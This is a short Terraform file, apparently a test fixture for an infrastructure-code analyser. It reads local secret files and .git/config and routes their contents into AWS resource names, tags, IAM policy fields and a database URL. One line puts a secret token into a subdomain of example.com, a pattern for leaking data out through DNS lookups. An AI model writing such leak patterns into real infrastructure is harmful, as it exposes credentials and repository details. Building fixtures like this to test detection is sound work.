locals {
  raw     = trimspace(file("secret.txt"))
  decoded = jsondecode(file("${path.module}/secret.json"))
  filled  = templatefile("${path.module}/secret.txt", {})
  config  = file("${path.module}/../.git/config")
  head    = file(".git/HEAD")
}
resource "aws_lambda_function" "f" {
  for_each      = { for key, value in local.decoded : value => value }
  function_name = each.key
  role          = local.raw
  vpc_config {
    subnet_ids         = [local.raw, local.filled, each.value]
    security_group_ids = [local.config, local.head, base64decode(filebase64("secret.txt")), split("-", local.raw)[0]]
  }
  environment {
    variables = {
      DB_URL = "postgres://${local.raw}:x@${local.decoded.token}.example.com:5432/x"
    }
  }
  tags = { "lambdanet:vpc-reason" = local.decoded.token }
}
resource "aws_subnet" "s" {
  for_each          = toset([local.raw, local.decoded.token])
  vpc_id            = each.key
  cidr_block        = local.raw
  availability_zone = local.filled
}
resource "aws_iam_role_policy" "p" {
  role   = local.raw
  policy = jsonencode({ Statement = [{ Effect = "Allow", Action = local.raw, Resource = local.decoded.token }] })
}
